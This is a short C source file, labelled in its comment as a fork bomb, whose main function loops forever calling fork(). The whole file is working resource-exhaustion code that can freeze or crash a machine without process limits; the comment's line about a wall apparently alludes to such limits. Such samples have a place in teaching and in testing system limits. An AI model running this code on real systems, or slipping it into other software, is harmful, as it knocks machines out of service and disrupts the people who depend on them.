/* forks_without_end: a fork bomb. The world must have a wall, and the machine live. */
#include <unistd.h>

int main(void)
{
	for (;;)
		(void)fork();
}
